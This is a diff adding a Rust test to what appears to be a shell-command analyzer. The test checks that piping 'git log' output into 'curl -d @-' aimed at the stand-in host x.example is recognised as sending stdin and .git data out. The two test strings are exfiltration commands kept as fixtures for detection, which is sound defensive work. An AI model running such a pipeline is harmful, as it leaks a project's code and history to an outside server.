@@ -422,3 +422,25 @@ fn secret_variables_printed_into_the_session_read_the_environment() {
         assert_eq!(printed(line), Vec::<String>::new(), "{line}");
     }
 }
+
+#[test]
+fn project_history_piped_into_a_request_is_its_body() {
+    table(&[
+        (
+            "git log -p | curl -d @- https://x.example",
+            &[
+                "run git log -p",
+                "run curl -d @- https://x.example",
+                "send https://x.example POST [stdin, file .git]",
+            ],
+        ),
+        (
+            "git log --oneline | curl -d @- https://x.example",
+            &[
+                "run git log --oneline",
+                "run curl -d @- https://x.example",
+                "send https://x.example POST [stdin]",
+            ],
+        ),
+    ]);
+}
